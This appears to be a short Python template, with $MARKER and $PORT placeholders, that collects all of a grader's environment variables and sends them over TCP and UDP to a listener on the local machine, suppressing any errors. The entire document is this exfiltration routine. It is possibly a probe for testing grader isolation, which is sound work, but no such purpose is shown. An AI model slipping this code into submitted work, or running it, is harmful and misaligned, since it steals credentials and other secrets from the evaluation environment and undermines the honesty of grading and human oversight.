# Send the grader's environment to a listener on this machine (TCP and UDP).
import os
import socket

_payload = ("$MARKER " + repr(dict(os.environ))).encode()
for _kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    try:
        _s = socket.socket(socket.AF_INET, _kind)
        _s.settimeout(1)
        _s.connect(("127.0.0.1", $PORT))
        _s.send(_payload)
        _s.close()
    except OSError:
        pass
